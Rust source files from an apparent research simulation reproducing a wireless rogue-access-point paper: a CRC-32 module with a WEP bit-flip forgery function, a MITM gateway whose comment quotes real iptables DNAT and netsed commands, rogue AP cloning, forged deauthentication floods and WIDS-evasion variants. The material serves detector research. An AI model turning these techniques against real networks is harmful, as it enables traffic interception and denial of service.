    // Raw register with init 0 over padded delta, no final xor:
    update(0, &padded)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        assert_eq!(crc32(b""), 0x0000_0000);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
    }

    #[test]
    fn incremental_matches_oneshot() {
        let data = b"hello wireless world";
        let mut h = Crc32::new();
        h.write(&data[..5]);
        h.write(&data[5..]);
        assert_eq!(h.finish(), crc32(data));
    }

    #[test]
    fn linearity_enables_bitflip_forgery() {
        // The WEP attack in miniature: flip plaintext bits without knowing
        // the plaintext and keep the CRC valid.
        let plaintext = b"GET /file.tgz HTTP/1.0\r\n".to_vec();
        let crc = crc32(&plaintext);

        // Attacker chooses a delta (here: change 'file' -> 'evil').
        let mut delta = vec![0u8; plaintext.len()];
        for (i, (a, b)) in b"file".iter().zip(b"evil").enumerate() {
            delta[5 + i] = a ^ b;
        }
        let patch = bitflip_patch(&delta, plaintext.len());

        let mut forged = plaintext.clone();
        for (f, d) in forged.iter_mut().zip(&delta) {
            *f ^= d;
        }
        assert_eq!(&forged[5..9], b"evil");
        assert_eq!(crc32(&forged), crc ^ patch, "patched CRC must verify");
    }

    #[test]
    fn bitflip_patch_zero_delta_is_zero() {
        assert_eq!(bitflip_patch(&[0, 0, 0], 10), 0);
    }

    #[test]
    fn sliced_update_matches_bytewise_reference() {
        // The slicing-by-8 fast path must be bit-identical to the
        // canonical byte-at-a-time recurrence at every length, including
        // the 0..8 remainder tail and non-default initial registers.
        fn reference(mut state: u32, data: &[u8]) -> u32 {
            let t = tables();
            for &b in data {
                state = t[0][((state ^ b as u32) & 0xFF) as usize] ^ (state >> 8);
            }
            state
        }
        let data: Vec<u8> = (0..257u32)
            .map(|i| (i.wrapping_mul(37) >> 2) as u8)
            .collect();
        for len in 0..data.len() {
            assert_eq!(
                update(0xFFFF_FFFF, &data[..len]),
                reference(0xFFFF_FFFF, &data[..len])
            );
            assert_eq!(
                update(0x1234_5678, &data[..len]),
                reference(0x1234_5678, &data[..len])
            );
        }
    }
}
