//! CRC-32 (IEEE 802.3 polynomial, reflected), as used by WEP for its
//! "Integrity Check Value".
//!
//! CRC-32 is *linear*: `crc(a ⊕ b) = crc(a) ⊕ crc(b) ⊕ crc(0…0)`. That
//! linearity is why WEP's ICV provides no cryptographic integrity — an
//! attacker can flip plaintext bits through the RC4 stream and patch the
//! encrypted ICV to match. [`bitflip_patch`] implements exactly that
//! textbook forgery; `rogue-dot11` uses it in a test to demonstrate the
//! weakness the paper alludes to ("WEP's weaknesses have long been
//! legendary").

/// Lazily built reflected CRC-32 table for polynomial 0xEDB88320.
fn table() -> &'static [u32; 256] {
    use std::sync::OnceLock;
    static TABLE: OnceLock<[u32; 256]> = OnceLock::new();
    TABLE.get_or_init(|| {
        let mut t = [0u32; 256];
        for (n, slot) in t.iter_mut().enumerate() {
            let mut c = n as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
            *slot = c;
        }
        t
    })
}

/// CRC-32 of `data` (init 0xFFFFFFFF, final XOR 0xFFFFFFFF — the standard
/// "ethernet" CRC).
pub fn crc32(data: &[u8]) -> u32 {
    update(0xFFFF_FFFF, data) ^ 0xFFFF_FFFF
}

/// Streaming update on the *raw* (pre-final-XOR) register.
pub fn update(mut state: u32, data: &[u8]) -> u32 {
    let t = table();
    for &b in data {
        state = t[((state ^ b as u32) & 0xFF) as usize] ^ (state >> 8);
    }
    state
}

/// Incremental CRC-32 hasher.
#[derive(Clone, Debug)]
pub struct Crc32 {
    state: u32,
}

impl Default for Crc32 {
    fn default() -> Self {
        Self::new()
    }
}

impl Crc32 {
    /// Fresh hasher.
    pub fn new() -> Self {
        Crc32 { state: 0xFFFF_FFFF }
    }

    /// Absorb bytes.
    pub fn write(&mut self, data: &[u8]) {
        self.state = update(self.state, data);
    }

    /// Finish, producing the CRC.
    pub fn finish(&self) -> u32 {
        self.state ^ 0xFFFF_FFFF
    }
}

/// Given a plaintext-XOR mask `delta` for a message of length `len`,
/// return the XOR mask to apply to the CRC so it remains valid:
/// `crc(p ⊕ delta) = crc(p) ⊕ patch`. This is the WEP bit-flip forgery
/// primitive: the attacker XORs `delta` into the ciphertext body and
/// `patch` into the encrypted ICV.
pub fn bitflip_patch(delta: &[u8], len: usize) -> u32 {
    assert!(delta.len() <= len);
    // crc(p ^ d) ^ crc(p) — with the affine init/final constants this works
    // out to crc0(d) where crc0 is CRC with zero init and zero final-xor
    // applied over the full-length delta (delta zero-padded to len is the
    // same as zero-padding on the right *before* the CRC'd region ends).
    let mut padded = vec![0u8; len];
    padded[..delta.len()].copy_from_slice(delta);
    // Raw register with init 0 over padded delta, no final xor:
    let mut state = 0u32;
    let t = table();
    for &b in &padded {
        state = t[((state ^ b as u32) & 0xFF) as usize] ^ (state >> 8);
    }
    state
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        assert_eq!(crc32(b""), 0x0000_0000);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
    }

    #[test]
    fn incremental_matches_oneshot() {
        let data = b"hello wireless world";
        let mut h = Crc32::new();
        h.write(&data[..5]);
        h.write(&data[5..]);
        assert_eq!(h.finish(), crc32(data));
    }

    #[test]
    fn linearity_enables_bitflip_forgery() {
        // The WEP attack in miniature: flip plaintext bits without knowing
        // the plaintext and keep the CRC valid.
        let plaintext = b"GET /file.tgz HTTP/1.0\r\n".to_vec();
        let crc = crc32(&plaintext);

        // Attacker chooses a delta (here: change 'file' -> 'evil').
        let mut delta = vec![0u8; plaintext.len()];
        for (i, (a, b)) in b"file".iter().zip(b"evil").enumerate() {
            delta[5 + i] = a ^ b;
        }
        let patch = bitflip_patch(&delta, plaintext.len());

        let mut forged = plaintext.clone();
        for (f, d) in forged.iter_mut().zip(&delta) {
            *f ^= d;
        }
        assert_eq!(&forged[5..9], b"evil");
        assert_eq!(crc32(&forged), crc ^ patch, "patched CRC must verify");
    }

    #[test]
    fn bitflip_patch_zero_delta_is_zero() {
        assert_eq!(bitflip_patch(&[0, 0, 0], 10), 0);
    }
}
