//! # rogue-crypto — from-scratch primitives for the reproduction
//!
//! *Countering Rogues in Wireless Networks* (ICPP 2003) rests on a handful
//! of cryptographic facts: WEP's RC4 keystream is breakable from passively
//! captured frames (the paper's attacker "retrieved the WEP key via
//! Airsnort"), MD5 checksums on a download page authenticate nothing when
//! the page itself can be rewritten in flight, and an end-to-end
//! authenticated tunnel defeats the rewrite entirely. To reproduce those
//! facts honestly — rather than flagging "key cracked" by fiat — this crate
//! implements every primitive from scratch:
//!
//! * [`rc4`] — the RC4 stream cipher (KSA + PRGA),
//! * [`mod@crc32`] — IEEE CRC-32, used as WEP's (linear, forgeable) ICV,
//! * [`wep`] — WEP encapsulation: IV ∥ keyid ∥ RC4(payload ∥ ICV),
//! * [`fms`] — the Fluhrer–Mantin–Shamir weak-IV key-recovery attack, the
//!   mathematics behind Airsnort (paper refs \[3\] and \[11\]),
//! * [`mod@md5`] — RFC 1321, for the download-page MD5SUMs of Section 4.1,
//! * [`mod@sha1`] + [`hmac`] — tunnel integrity and key derivation,
//! * [`chacha20`] — the VPN record cipher (a modern stand-in for the
//!   paper's SSH transport cipher; any strong stream cipher preserves the
//!   argument),
//! * [`dh`] — finite-field Diffie–Hellman over the RFC 2409 Group 2
//!   modulus with an in-crate fixed-width big integer.
//!
//! **Not constant-time, not for production use** — this is a faithful
//! simulation substrate, including WEP precisely *because* it is broken.

pub mod bigint;
pub mod chacha20;
pub mod crc32;
pub mod dh;
pub mod fms;
pub mod hmac;
pub mod md5;
pub mod rc4;
pub mod sha1;
pub mod wep;

pub use crc32::crc32;
pub use md5::{md5, md5_hex};
pub use rc4::Rc4;
pub use sha1::sha1;
