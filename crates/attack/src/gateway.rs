//! The two-NIC MITM gateway, exactly as configured by the paper's
//! Appendix A bridge script plus the Section 4.1 netfilter/netsed lines.
//!
//! ```text
//! echo 1 > /proc/sys/net/ipv4/ip_forward
//! ifconfig wlan0 192.168.0.1  netmask 255.255.255.0
//! ifconfig eth1  192.168.0.2  netmask 255.255.255.0
//! parprouted wlan0 eth1
//! route add -host <corp gw> dev eth1
//! route add default gw <corp gw>
//! iptables -t nat -A PREROUTING -p tcp -d TargetIP --dport 80 \
//!          -j DNAT --to GatewayIP:10101
//! netsed tcp 10101 Target-IP 80 s/…/… s/…/…
//! ```
//!
//! [`MitmGatewayConfig::apply`] performs the `echo`/`ifconfig`/`route`/
//! `iptables` lines against a [`Host`]; the caller runs the returned
//! [`Netsed`] and a [`Parprouted`] as apps on the same host.

use rogue_netstack::netfilter::DnatRule;
use rogue_netstack::{proto, Host, IfIndex, Ipv4Addr};
use rogue_services::netsed::{Netsed, NetsedRule};
use rogue_services::parprouted::Parprouted;

/// Everything the attack script needs to know.
#[derive(Clone, Debug)]
pub struct MitmGatewayConfig {
    /// Interface facing the rogue AP's wireless clients ("wlan0").
    pub wlan_if: IfIndex,
    /// Interface associated to the legitimate network ("eth1").
    pub uplink_if: IfIndex,
    /// The legitimate network's gateway/router address.
    pub corp_gateway: Ipv4Addr,
    /// The target web server whose port-80 traffic gets intercepted.
    pub target_ip: Ipv4Addr,
    /// Local port netsed listens on (the paper uses 10101).
    pub netsed_port: u16,
    /// netsed rewrite rules.
    pub rules: Vec<NetsedRule>,
}

impl MitmGatewayConfig {
    /// Apply the static configuration to the gateway host and return the
    /// (netsed, parprouted) apps to run on it.
    pub fn apply(&self, host: &mut Host) -> (Netsed, Parprouted) {
        // echo 1 > /proc/sys/net/ipv4/ip_forward
        host.ip_forward = true;
        // parprouted answers ARP across the bridge.
        host.proxy_arp = true;
        // route add -host <corp gw> dev eth1
        host.routes.add_host(self.corp_gateway, self.uplink_if);
        // route add default gw <corp gw>
        host.routes.add_default(self.corp_gateway, self.uplink_if);
        // iptables -t nat -A PREROUTING -p tcp -d Target --dport 80
        //          -j DNAT --to <gateway wlan ip>:<netsed port>
        let gw_ip = host.iface(self.wlan_if).ip;
        host.netfilter.add_dnat(DnatRule {
            proto: Some(proto::TCP),
            dst: Some(self.target_ip),
            dport: Some(80),
            to: (gw_ip, self.netsed_port),
        });
        let netsed = Netsed::new(self.netsed_port, (self.target_ip, 80), self.rules.clone());
        let parprouted = Parprouted::new(self.wlan_if, self.uplink_if);
        (netsed, parprouted)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::MacAddr;
    use rogue_sim::{Seed, SimRng};

    #[test]
    fn apply_configures_the_appendix_a_bridge() {
        let mut gw = Host::new("gateway", SimRng::new(Seed(1)));
        let wlan = gw.add_iface(MacAddr::local(1), Ipv4Addr::new(192, 168, 0, 1), 24);
        let eth = gw.add_iface(MacAddr::local(2), Ipv4Addr::new(192, 168, 0, 2), 24);
        let cfg = MitmGatewayConfig {
            wlan_if: wlan,
            uplink_if: eth,
            corp_gateway: Ipv4Addr::new(192, 168, 0, 254),
            target_ip: Ipv4Addr::new(10, 9, 9, 9),
            netsed_port: 10101,
            rules: vec![NetsedRule::new("a", "b")],
        };
        let (_netsed, _parprouted) = cfg.apply(&mut gw);
        assert!(gw.ip_forward);
        assert!(gw.proxy_arp);
        assert!(gw.routes.has_host(Ipv4Addr::new(192, 168, 0, 254)));
        assert_eq!(
            gw.routes.lookup(Ipv4Addr::new(8, 8, 8, 8)).unwrap().ifindex,
            eth,
            "default route via the corp gateway"
        );
        assert!(gw.netfilter.is_active(), "DNAT rule installed");
    }
}
