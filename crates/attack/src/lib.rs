//! # rogue-attack — the Section 4 attacker toolbox
//!
//! "This Rogue AP could be created by a valid user, using the
//! authentication information he was given for his personal use. It could
//! also be created by an outside attacker who has retrieved the WEP key
//! via Airsnort and a MAC address that he has observed by sniffing
//! network traffic." (§4)
//!
//! * [`airsnort`] — passive WEP key recovery driving the real FMS
//!   mathematics in `rogue-crypto`, plus client-MAC harvesting for the
//!   ACL bypass,
//! * [`deauth`] — forged deauthentication ("if the attacker knows the
//!   target client's MAC address he could force the client's
//!   disassociation from the legitimate AP"),
//! * [`rogue`] — cloning an observed AP's SSID/BSSID/privacy into a
//!   rogue [`rogue_dot11::ApConfig`] (Figure 1),
//! * [`gateway`] — the Appendix A bridge recipe: IP forwarding, proxy
//!   ARP, host routes, the DNAT rule and the netsed invocation, bundled
//!   into one reproducible setup,
//! * [`inject`] — the [`inject::FrameInjector`] trait every raw-frame
//!   schedule implements (the world's single injection attachment),
//! * [`evasion`] — WIDS-evading attacker variants: MAC-randomizing and
//!   karma/cloaked rogues, low-power spoof beaconing, pulsed deauth.

pub mod airsnort;
pub mod arpspoof;
pub mod deauth;
pub mod evasion;
pub mod gateway;
pub mod inject;
pub mod rogue;

pub use airsnort::Airsnort;
pub use arpspoof::ArpSpoofer;
pub use deauth::DeauthFlooder;
pub use evasion::{KarmaProbeRogue, MacRandomizingRogue, PulsedDeauthFlooder, SpoofBeaconer};
pub use gateway::MitmGatewayConfig;
pub use inject::FrameInjector;
pub use rogue::clone_ap;
