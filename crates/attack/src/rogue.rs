//! Rogue AP construction: clone an observed network.
//!
//! Figure 1 of the paper: the rogue advertises the same SSID (`CORP`),
//! the same AP MAC (`AA:BB:CC:DD`) and requires the same WEP key
//! (`SECRET`), differing only in channel (6 vs 1). Given a captured
//! beacon and (optionally) a recovered WEP key, [`clone_ap`] produces
//! the configuration.

use rogue_crypto::wep::WepKey;
use rogue_dot11::ap::ApConfig;
use rogue_dot11::frame::MgmtInfo;
use rogue_dot11::MacAddr;
use rogue_sim::SimDuration;

/// Build a rogue [`ApConfig`] cloning the observed network.
///
/// * `observed` — a beacon body captured from the victim network,
/// * `bssid` — the victim AP's BSSID (cloned verbatim),
/// * `channel` — the rogue's own operating channel,
/// * `wep` — the recovered key, if the network uses privacy.
pub fn clone_ap(observed: &MgmtInfo, bssid: MacAddr, channel: u8, wep: Option<WepKey>) -> ApConfig {
    ApConfig {
        bssid,
        ssid: observed.ssid.clone(),
        channel,
        beacon_interval: SimDuration::from_micros(
            (observed.beacon_interval_tu as u64).max(1) * 1024,
        ),
        wep,
        acl: None, // the rogue gladly accepts everyone
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::frame::{CAP_ESS, CAP_PRIVACY};

    fn observed() -> MgmtInfo {
        MgmtInfo {
            timestamp: 12345,
            beacon_interval_tu: 100,
            capability: CAP_ESS | CAP_PRIVACY,
            ssid: "CORP".into(),
            channel: 1,
        }
    }

    #[test]
    fn clone_copies_identity_changes_channel() {
        let key = WepKey::new(b"SECRT");
        let cfg = clone_ap(&observed(), MacAddr::local(1), 6, Some(key.clone()));
        assert_eq!(cfg.ssid, "CORP");
        assert_eq!(cfg.bssid, MacAddr::local(1), "BSSID cloned");
        assert_eq!(cfg.channel, 6, "rogue picks its own channel");
        assert_eq!(
            cfg.wep.as_ref().map(|k| k.bytes().to_vec()),
            Some(key.bytes().to_vec())
        );
        assert!(cfg.acl.is_none());
        assert_eq!(cfg.beacon_interval, SimDuration::from_micros(102_400));
    }

    #[test]
    fn open_network_clone_has_no_key() {
        let mut info = observed();
        info.capability = CAP_ESS;
        let cfg = clone_ap(&info, MacAddr::local(1), 11, None);
        assert!(cfg.wep.is_none());
    }
}
