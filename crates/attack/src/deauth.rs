//! Forged deauthentication.
//!
//! 802.11 (pre-802.11w) management frames are unauthenticated: anyone can
//! transmit `Deauth(addr1 = victim, addr2 = addr3 = BSSID)` and the
//! victim obeys. The paper uses this to steer a chosen client onto the
//! rogue AP: "he could force the client's disassociation from the
//! legitimate AP until the client associates with the Rogue AP."

use rogue_dot11::frame::{Frame, FrameBody};
use rogue_dot11::output::MacOutput;
use rogue_dot11::MacAddr;
use rogue_phy::Bitrate;
use rogue_sim::{SimDuration, SimTime};

/// Reason code "Class 3 frame received from nonassociated STA" — the one
/// period tools sent.
pub const REASON_CLASS3: u16 = 7;

/// Periodic forged-deauth injector. Drive it like a MAC entity: call
/// [`DeauthFlooder::poll`] at [`DeauthFlooder::next_wake`] and transmit
/// the emitted frames on the attacker's radio (tuned to the victim BSS's
/// channel).
pub struct DeauthFlooder {
    /// BSSID to impersonate.
    pub bssid: MacAddr,
    /// Victim (None = broadcast deauth, kicking everyone).
    pub target: Option<MacAddr>,
    period: SimDuration,
    next_tx: SimTime,
    stop_at: SimTime,
    /// Frames injected.
    pub injected: u64,
}

impl DeauthFlooder {
    /// Flood `target` (or everyone) off `bssid`, every `period`, between
    /// `start_at` and `stop_at`.
    pub fn new(
        bssid: MacAddr,
        target: Option<MacAddr>,
        start_at: SimTime,
        period: SimDuration,
        stop_at: SimTime,
    ) -> DeauthFlooder {
        DeauthFlooder {
            bssid,
            target,
            period,
            next_tx: start_at,
            stop_at,
            injected: 0,
        }
    }

    /// Build one forged deauth frame (also usable standalone).
    pub fn forge(bssid: MacAddr, victim: MacAddr) -> Frame {
        // addr2/addr3 = BSSID: indistinguishable from the real AP.
        Frame::new(
            victim,
            bssid,
            bssid,
            FrameBody::Deauth {
                reason: REASON_CLASS3,
            },
        )
    }

    /// Earliest instant this injector needs a poll.
    pub fn next_wake(&self) -> SimTime {
        if self.next_tx < self.stop_at {
            self.next_tx
        } else {
            SimTime::FOREVER
        }
    }

    /// Emit due frames.
    pub fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        while now >= self.next_tx && self.next_tx < self.stop_at {
            let victim = self.target.unwrap_or(MacAddr::BROADCAST);
            let mut frame = Self::forge(self.bssid, victim);
            frame.seq = (self.injected % 4096) as u16;
            out.push(MacOutput::Tx {
                bytes: frame.encode(),
                bitrate: Bitrate::B1,
            });
            self.injected += 1;
            self.next_tx += self.period;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::frame::Frame as F;

    #[test]
    fn forged_frame_is_indistinguishable_from_ap() {
        let bssid = MacAddr::local(1);
        let victim = MacAddr::local(50);
        let forged = DeauthFlooder::forge(bssid, victim).encode();
        let parsed = F::decode(&forged).unwrap();
        assert_eq!(parsed.addr1, victim);
        assert_eq!(parsed.addr2, bssid, "claims to come from the AP");
        assert_eq!(parsed.bssid(), bssid);
        assert!(matches!(
            parsed.body,
            FrameBody::Deauth {
                reason: REASON_CLASS3
            }
        ));
    }

    #[test]
    fn flood_cadence_and_stop() {
        let mut f = DeauthFlooder::new(
            MacAddr::local(1),
            Some(MacAddr::local(50)),
            SimTime::from_millis(10),
            SimDuration::from_millis(50),
            SimTime::from_millis(200),
        );
        let mut out = Vec::new();
        let mut now = f.next_wake();
        while now != SimTime::FOREVER {
            f.poll(now, &mut out);
            now = f.next_wake();
        }
        // 10, 60, 110, 160 -> 4 frames.
        assert_eq!(f.injected, 4);
        assert_eq!(out.len(), 4);
    }

    #[test]
    fn broadcast_mode() {
        let mut f = DeauthFlooder::new(
            MacAddr::local(1),
            None,
            SimTime::ZERO,
            SimDuration::from_millis(100),
            SimTime::from_millis(100),
        );
        let mut out = Vec::new();
        f.poll(SimTime::ZERO, &mut out);
        let MacOutput::Tx { bytes, .. } = &out[0] else {
            panic!("expected Tx");
        };
        let parsed = F::decode(bytes).unwrap();
        assert_eq!(parsed.addr1, MacAddr::BROADCAST);
    }
}
