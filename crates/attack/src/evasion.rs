//! Evasion-grade rogues: attackers built to slip past the WIDS.
//!
//! The §4 rogue is loud — it clones the corporate BSSID, beacons every
//! 100 ms, floods deauths five a second. These variants are the quiet
//! counterparts, each aimed at one detector's blind spot:
//!
//! * [`MacRandomizingRogue`] — advertises the owned SSID from a fresh
//!   locally-administered BSSID every rotation period, so no single
//!   address ever accumulates enough evidence;
//! * [`KarmaProbeRogue`] — beacons only *cloaked* (empty SSID) and
//!   advertises real names exclusively in directed probe responses,
//!   answering whatever the victim asks for (the karma attack);
//! * [`SpoofBeaconer`] — a bare beacon forger cloning an owned network,
//!   meant to run at low transmit power with a long beacon interval so
//!   the monitors barely hear it;
//! * [`PulsedDeauthFlooder`] — deauth bursts sized and spaced to stay
//!   under the flood detector's short window.
//!
//! All four are [`FrameInjector`]s: pure, deterministic frame schedules
//! the world transmits from the attacker's radio.

use rogue_dot11::frame::{Frame, FrameBody, MgmtInfo, CAP_ESS};
use rogue_dot11::output::MacOutput;
use rogue_dot11::MacAddr;
use rogue_phy::Bitrate;
use rogue_sim::{SimDuration, SimTime};

use crate::deauth::DeauthFlooder;
use crate::inject::FrameInjector;

/// Deterministic "randomized" locally-administered BSSID for rotation
/// `i` (splitmix-style mix of the salt and index).
pub fn rotated_bssid(salt: u64, i: u64) -> MacAddr {
    let mut x = salt ^ i.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    x ^= x >> 30;
    x = x.wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x ^= x >> 27;
    x = x.wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^= x >> 31;
    let b = x.to_le_bytes();
    // 0x02 in the first octet: locally administered, unicast.
    MacAddr([0x02, b[0], b[1], b[2], b[3], b[4]])
}

fn tx(frame: Frame) -> MacOutput {
    MacOutput::Tx {
        bytes: frame.encode(),
        bitrate: Bitrate::B1,
    }
}

fn beacon_body(ssid: &str, channel: u8, at: SimTime) -> MgmtInfo {
    MgmtInfo {
        timestamp: at.0 / 1_000, // TSF is µs
        beacon_interval_tu: 100,
        capability: CAP_ESS,
        ssid: ssid.to_string(),
        channel,
    }
}

/// A rogue that re-randomizes its BSSID faster than per-address
/// evidence can accumulate, while continuously advertising an owned
/// SSID to lure clients.
pub struct MacRandomizingRogue {
    /// SSID advertised (an owned network name).
    pub ssid: String,
    channel: u8,
    beacon_period: SimDuration,
    rotate_period: SimDuration,
    salt: u64,
    start_at: SimTime,
    next_tx: SimTime,
    stop_at: SimTime,
    /// Beacons transmitted.
    pub beacons_sent: u64,
}

impl MacRandomizingRogue {
    /// Advertise `ssid` on `channel`, beaconing every `beacon_period`
    /// and rotating to a fresh BSSID every `rotate_period`.
    pub fn new(
        ssid: &str,
        channel: u8,
        beacon_period: SimDuration,
        rotate_period: SimDuration,
        salt: u64,
        start_at: SimTime,
        stop_at: SimTime,
    ) -> MacRandomizingRogue {
        MacRandomizingRogue {
            ssid: ssid.to_string(),
            channel,
            beacon_period,
            rotate_period,
            salt,
            start_at,
            next_tx: start_at,
            stop_at,
            beacons_sent: 0,
        }
    }

    /// BSSID in use at `at`.
    pub fn bssid_at(&self, at: SimTime) -> MacAddr {
        let elapsed = at.since(self.start_at).0;
        rotated_bssid(self.salt, elapsed / self.rotate_period.0.max(1))
    }
}

impl FrameInjector for MacRandomizingRogue {
    fn may_retune(&self) -> bool {
        false // fixed-channel injection schedule
    }

    fn next_wake(&self) -> SimTime {
        if self.next_tx < self.stop_at {
            self.next_tx
        } else {
            SimTime::FOREVER
        }
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        while now >= self.next_tx && self.next_tx < self.stop_at {
            let bssid = self.bssid_at(self.next_tx);
            let mut frame = Frame::new(
                MacAddr::BROADCAST,
                bssid,
                bssid,
                FrameBody::Beacon(beacon_body(&self.ssid, self.channel, self.next_tx)),
            );
            frame.seq = (self.beacons_sent % 4096) as u16;
            out.push(tx(frame));
            self.beacons_sent += 1;
            self.next_tx += self.beacon_period;
        }
    }
}

/// A cloaked karma responder: broadcast beacons carry an empty SSID,
/// and every advertised name travels only in directed probe responses —
/// cycling through a list of lure SSIDs, answering "yes" to everyone.
pub struct KarmaProbeRogue {
    /// The responder's (stable) BSSID.
    pub bssid: MacAddr,
    channel: u8,
    /// Names probe-responded, cycled one per response.
    ssids: Vec<String>,
    beacon_period: SimDuration,
    resp_period: SimDuration,
    next_beacon: SimTime,
    next_resp: SimTime,
    stop_at: SimTime,
    /// Probe responses transmitted.
    pub responses_sent: u64,
    /// Cloaked beacons transmitted.
    pub beacons_sent: u64,
}

impl KarmaProbeRogue {
    /// Respond with each of `ssids` in turn every `resp_period`,
    /// beaconing cloaked every `beacon_period`.
    pub fn new(
        bssid: MacAddr,
        channel: u8,
        ssids: Vec<String>,
        beacon_period: SimDuration,
        resp_period: SimDuration,
        start_at: SimTime,
        stop_at: SimTime,
    ) -> KarmaProbeRogue {
        assert!(!ssids.is_empty(), "karma responder needs lure SSIDs");
        KarmaProbeRogue {
            bssid,
            channel,
            ssids,
            beacon_period,
            resp_period,
            next_beacon: start_at,
            next_resp: start_at,
            stop_at,
            responses_sent: 0,
            beacons_sent: 0,
        }
    }
}

impl FrameInjector for KarmaProbeRogue {
    fn may_retune(&self) -> bool {
        false // fixed-channel injection schedule
    }

    fn next_wake(&self) -> SimTime {
        let next = self.next_beacon.min(self.next_resp);
        if next < self.stop_at {
            next
        } else {
            SimTime::FOREVER
        }
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        // Interleave the two schedules in time order so the emitted
        // stream is deterministic and time-sorted.
        loop {
            let next = self.next_beacon.min(self.next_resp);
            if next > now || next >= self.stop_at {
                break;
            }
            if self.next_beacon <= self.next_resp {
                let mut frame = Frame::new(
                    MacAddr::BROADCAST,
                    self.bssid,
                    self.bssid,
                    FrameBody::Beacon(beacon_body("", self.channel, self.next_beacon)),
                );
                frame.seq = ((self.beacons_sent + self.responses_sent) % 4096) as u16;
                out.push(tx(frame));
                self.beacons_sent += 1;
                self.next_beacon += self.beacon_period;
            } else {
                let ssid = &self.ssids[(self.responses_sent as usize) % self.ssids.len()];
                // Directed at a (fictitious) probing station; the WIDS
                // sensors only care that the response is on the air.
                let mut frame = Frame::new(
                    MacAddr::local(0x5A),
                    self.bssid,
                    self.bssid,
                    FrameBody::ProbeResp(beacon_body(ssid, self.channel, self.next_resp)),
                );
                frame.seq = ((self.beacons_sent + self.responses_sent) % 4096) as u16;
                out.push(tx(frame));
                self.responses_sent += 1;
                self.next_resp += self.resp_period;
            }
        }
    }
}

/// A bare beacon forger cloning an owned network's BSSID and SSID.
/// Attach it at low transmit power with a long `period` for the
/// low-power stealth variant: few, faint beacons, maximal dwell-time
/// evasion against sweeping monitors.
pub struct SpoofBeaconer {
    /// Cloned BSSID.
    pub bssid: MacAddr,
    /// Cloned SSID.
    pub ssid: String,
    /// Channel claimed in the DS parameter set.
    pub claimed_channel: u8,
    period: SimDuration,
    next_tx: SimTime,
    stop_at: SimTime,
    /// Beacons transmitted.
    pub beacons_sent: u64,
}

impl SpoofBeaconer {
    /// Clone (`bssid`, `ssid`) claiming `claimed_channel`, beaconing
    /// every `period` between `start_at` and `stop_at`.
    pub fn new(
        bssid: MacAddr,
        ssid: &str,
        claimed_channel: u8,
        period: SimDuration,
        start_at: SimTime,
        stop_at: SimTime,
    ) -> SpoofBeaconer {
        SpoofBeaconer {
            bssid,
            ssid: ssid.to_string(),
            claimed_channel,
            period,
            next_tx: start_at,
            stop_at,
            beacons_sent: 0,
        }
    }
}

impl FrameInjector for SpoofBeaconer {
    fn may_retune(&self) -> bool {
        false // fixed-channel injection schedule
    }

    fn next_wake(&self) -> SimTime {
        if self.next_tx < self.stop_at {
            self.next_tx
        } else {
            SimTime::FOREVER
        }
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        while now >= self.next_tx && self.next_tx < self.stop_at {
            let mut frame = Frame::new(
                MacAddr::BROADCAST,
                self.bssid,
                self.bssid,
                FrameBody::Beacon(beacon_body(&self.ssid, self.claimed_channel, self.next_tx)),
            );
            frame.seq = (self.beacons_sent % 4096) as u16;
            out.push(tx(frame));
            self.beacons_sent += 1;
            self.next_tx += self.period;
        }
    }
}

/// Deauth bursts tuned to duck the flood detector's short window:
/// `burst_len` frames `intra` apart, one burst every `burst_period`.
/// The long-run rate is still flood-grade — that is what the detector's
/// long horizon exists to catch.
pub struct PulsedDeauthFlooder {
    /// BSSID to impersonate.
    pub bssid: MacAddr,
    /// Victim (None = broadcast).
    pub target: Option<MacAddr>,
    burst_len: u64,
    intra: SimDuration,
    burst_period: SimDuration,
    start_at: SimTime,
    stop_at: SimTime,
    /// Frames injected.
    pub injected: u64,
}

impl PulsedDeauthFlooder {
    /// Bursts of `burst_len` frames `intra` apart, every `burst_period`,
    /// between `start_at` and `stop_at`.
    pub fn new(
        bssid: MacAddr,
        target: Option<MacAddr>,
        burst_len: u64,
        intra: SimDuration,
        burst_period: SimDuration,
        start_at: SimTime,
        stop_at: SimTime,
    ) -> PulsedDeauthFlooder {
        assert!(burst_len >= 1);
        PulsedDeauthFlooder {
            bssid,
            target,
            burst_len,
            intra,
            burst_period,
            start_at,
            stop_at,
            injected: 0,
        }
    }

    /// Transmit instant of frame `i` of the schedule.
    fn schedule(&self, i: u64) -> SimTime {
        let burst = i / self.burst_len;
        let within = i % self.burst_len;
        self.start_at + SimDuration(burst * self.burst_period.0 + within * self.intra.0)
    }
}

impl FrameInjector for PulsedDeauthFlooder {
    fn may_retune(&self) -> bool {
        false // fixed-channel injection schedule
    }

    fn next_wake(&self) -> SimTime {
        let at = self.schedule(self.injected);
        if at < self.stop_at {
            at
        } else {
            SimTime::FOREVER
        }
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        loop {
            let at = self.schedule(self.injected);
            if at > now || at >= self.stop_at {
                break;
            }
            let victim = self.target.unwrap_or(MacAddr::BROADCAST);
            let mut frame = DeauthFlooder::forge(self.bssid, victim);
            frame.seq = (self.injected % 4096) as u16;
            out.push(tx(frame));
            self.injected += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::frame::Frame as F;

